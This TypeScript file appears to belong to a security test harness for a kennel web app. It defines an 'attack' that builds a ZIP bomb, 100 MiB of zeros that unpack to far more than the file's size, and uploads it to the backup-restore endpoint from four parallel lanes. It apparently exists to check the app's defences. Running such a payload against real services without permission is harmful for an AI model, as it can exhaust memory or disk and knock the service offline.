import { zipSync } from "fflate";
import { endingOf, MEBIBYTE, send, type Attack } from "../attack";

const FORM = "bomb";
const ZEROS = zipSync({ "backup.json": new Uint8Array(100 * MEBIBYTE) });

export default {
  does: "restores ZIPs that unpack to a thousand times their size",
  as: "a member",
  lanes: 4,
  once: async (attacker, gone, note) => {
    const head = `--${FORM}\r\nContent-Disposition: form-data; name="kennelId"\r\n\r\n${attacker.kennelId}\r\n--${FORM}\r\nContent-Disposition: form-data; name="backup"; filename="a.zip"\r\nContent-Type: application/zip\r\n\r\n`;
    const { status, body } = await send(attacker, gone, "/api/backups/restore", {
      headers: { "content-type": `multipart/form-data; boundary=${FORM}` },
      body: Buffer.concat([Buffer.from(head), ZEROS, Buffer.from(`\r\n--${FORM}--\r\n`)]),
    });
    note(endingOf(status, body.toString()));
  },
} satisfies Attack;
